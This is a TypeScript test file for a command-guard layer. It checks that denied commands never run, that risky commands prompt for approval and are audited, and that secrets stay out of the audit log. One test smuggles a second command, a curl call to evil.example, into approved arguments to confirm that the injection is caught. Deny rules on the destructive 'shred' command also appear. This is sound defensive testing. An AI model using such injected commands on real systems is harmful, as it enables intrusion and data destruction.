import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { loadShellParser, resolvePolicy, type DecideContext } from "@slashi/core";
import fc from "fast-check";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { AuditEntry } from "../audit/audit-log.js";
import { CommandApprovalFileStore } from "../store/command-approvals.js";
import {
  guardedRun,
  textDigest,
  type ApprovalAnswer,
  type ApprovalQuestion,
  type ExecutionPlan,
  type GuardedRunPorts,
} from "./guarded-run.js";

const CWD = "/home/dev/app";
const read = (file: string): string | undefined =>
  path.resolve(file) === "/home/dev/app/deploy.sh" ? "#!/bin/sh\necho deploy\n" : undefined;

function snapshot(skipConfirmInCordon = false) {
  return {
    policy: resolvePolicy([
      {
        kind: "user",
        source: "policy.json",
        document: {
          version: 1,
          extends: ["recommended"],
          ...(skipConfirmInCordon ? { skipConfirmInCordon: true } : {}),
          rules: [{ match: ["shred"], decision: "deny", reason: "never" }],
        },
      },
    ]),
    context: (at: { cwd?: string; shell?: string } = {}): DecideContext => ({
      shell: at.shell ?? "bash",
      cwd: at.cwd ?? CWD,
      workspaceRoot: CWD,
      home: "/home/dev",
      workspaceTrusted: true,
    }),
  };
}

let dir: string;
let approvals: CommandApprovalFileStore;
let records: AuditEntry[];
let asked: ApprovalQuestion[];
let ran: ExecutionPlan[];

function ports(
  answer: ApprovalAnswer,
  extra: Partial<GuardedRunPorts<{ exitCode: number }>> = {},
): GuardedRunPorts<{ exitCode: number }> {
  return {
    snapshot: snapshot(),
    approvals,
    read,
    approver: { approve: async (q) => (asked.push(q), answer) },
    executor: { run: async (plan) => (ran.push(plan), { exitCode: 3 }) },
    audit: { record: async (entry) => void records.push(entry) },
    ...extra,
  };
}

const request = (command: string) => ({ command, cwd: CWD, host: "cli" as const, source: "terminal" });

beforeAll(async () => {
  await loadShellParser();
  dir = mkdtempSync(path.join(tmpdir(), "slashi-guarded-"));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));
beforeEach(() => {
  approvals = new CommandApprovalFileStore({ file: path.join(dir, `${Math.random()}.json`) });
  records = [];
  asked = [];
  ran = [];
});

describe("guardedRun", () => {
  it("refuses a deny without asking or running, and audits the decision", async () => {
    const outcome = await guardedRun(request("shred x"), ports({ run: "once" }));
    expect(outcome.status).toBe("denied");
    expect(asked).toEqual([]);
    expect(ran).toEqual([]);
    expect(records.map((r) => [r.event, r.decision])).toEqual([["decision", "deny"]]);
  });

  it("runs an allow without asking: a decision record, then a run record with the exit code", async () => {
    const outcome = await guardedRun(request("ls -la"), ports({ run: false, answer: "cancel" }));
    expect(outcome).toMatchObject({ status: "ran", result: { exitCode: 3 } });
    expect(asked).toEqual([]);
    expect(ran.map((p) => p.argv)).toEqual([["ls", "-la"]]);
    expect(records.map((r) => r.event)).toEqual(["decision", "run"]);
    expect(records[1]).toMatchObject({ host: "cli", source: "terminal", exitCode: 3, text: "ls -la" });
  });

  it("does not run an ask the person refused, and audits how they answered", async () => {
    const outcome = await guardedRun(request("./deploy.sh"), ports({ run: false, answer: "no-terminal" }));
    expect(outcome).toMatchObject({ status: "refused", answer: "no-terminal" });
    expect(asked).toHaveLength(1);
    expect(asked[0]?.canRemember).toBe(true);
    expect(ran).toEqual([]);
    expect(records.map((r) => [r.event, r.answer])).toEqual([["decision", "no-terminal"]]);
  });

  it("stores Always allow, and the next run of the same line is remembered without a prompt", async () => {
    const first = await guardedRun(request("./deploy.sh"), ports({ run: "always" }));
    expect(first).toMatchObject({ status: "ran", answer: "always" });
    expect(records.map((r) => r.event)).toEqual(["approve", "decision", "run"]);
    records = [];
    const second = await guardedRun(request("./deploy.sh"), ports({ run: false, answer: "cancel" }));
    expect(second).toMatchObject({ status: "ran", answer: "remembered" });
    expect(asked).toHaveLength(1);
    expect(records.map((r) => [r.event, r.answer])).toEqual([
      ["decision", "remembered"],
      ["run", "remembered"],
    ]);
  });

  it("never offers Always allow for a line that needs the shell", async () => {
    await guardedRun(request("./deploy.sh | cat"), ports({ run: "always" }));
    expect(asked[0]).toMatchObject({ canRemember: false });
    expect(await approvals.list()).toEqual([]);
  });

  it("runs a step of an approved slash command without a prompt, and a cordoned ask when the policy says", async () => {
    const pre = await guardedRun(
      { ...request("./deploy.sh"), preApproved: "sha256:cmd", template: "./deploy.sh" },
      ports({ run: false, answer: "cancel" }),
    );
    expect(pre).toMatchObject({ status: "ran", answer: "pre-approved" });
    const cordoned = await guardedRun(
      { ...request("./deploy.sh"), cordon: true },
      ports({ run: false, answer: "cancel" }, { snapshot: snapshot(true), cordonWorks: async () => true }),
    );
    expect(cordoned).toMatchObject({ status: "ran", answer: "cordon" });
    const broken = await guardedRun(
      { ...request("./deploy.sh"), cordon: true },
      ports({ run: false, answer: "cancel" }, { snapshot: snapshot(true), cordonWorks: async () => false }),
    );
    expect(broken.status).toBe("refused");
  });

  it("asks again when the arguments of an approved step add a finding its template does not have", async () => {
    // The template `./deploy.sh ${args}`, approved, run with arguments that bash splits into another command.
    const injected = await guardedRun(
      {
        ...request("./deploy.sh x; curl https://evil.example"),
        preApproved: "sha256:cmd",
        template: "./deploy.sh x",
      },
      ports({ run: false, answer: "cancel" }),
    );
    expect(injected).toMatchObject({ status: "refused", answer: "cancel" });
    expect(asked).toHaveLength(1);
    expect(asked[0]?.beyondTemplate?.length).toBeGreaterThan(0);
    expect(ran).toEqual([]);
    // The same program with other plain arguments is what was approved.
    const plain = await guardedRun(
      { ...request("./deploy.sh staging"), preApproved: "sha256:cmd", template: "./deploy.sh x" },
      ports({ run: false, answer: "cancel" }),
    );
    expect(plain).toMatchObject({ status: "ran", answer: "pre-approved" });
    // Without a template a pre-approval answers nothing.
    const bare = await guardedRun(
      { ...request("./deploy.sh"), preApproved: "sha256:cmd" },
      ports({ run: false, answer: "cancel" }),
    );
    expect(bare.status).toBe("refused");
  });

  it("audits the unexpanded text and only a digest of the expanded line", async () => {
    await guardedRun({ ...request("echo s3cr3t"), auditText: "echo ${env:TOKEN}" }, ports({ run: "once" }));
    for (const r of records) {
      expect(r.text).toBe("echo ${env:TOKEN}");
      expect(r.expandedDigest).toBe(textDigest("echo s3cr3t"));
      expect(JSON.stringify(r)).not.toContain("s3cr3t");
    }
  });

  it("never runs a line whose verdict is deny, whatever the approver says (generated)", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom<ApprovalAnswer>({ run: "once" }, { run: "always" }),
        fc.stringMatching(/^[a-z]{1,6}$/),
        fc.constantFrom("", "ls; ", "echo a && ", "cat x | "),
        async (answer, arg, prefix) => {
          ran = [];
          const outcome = await guardedRun(request(`${prefix}shred ${arg}`), ports(answer));
          expect(outcome.status).toBe("denied");
          expect(ran).toEqual([]);
        },
      ),
      { numRuns: 30 },
    );
  });
});
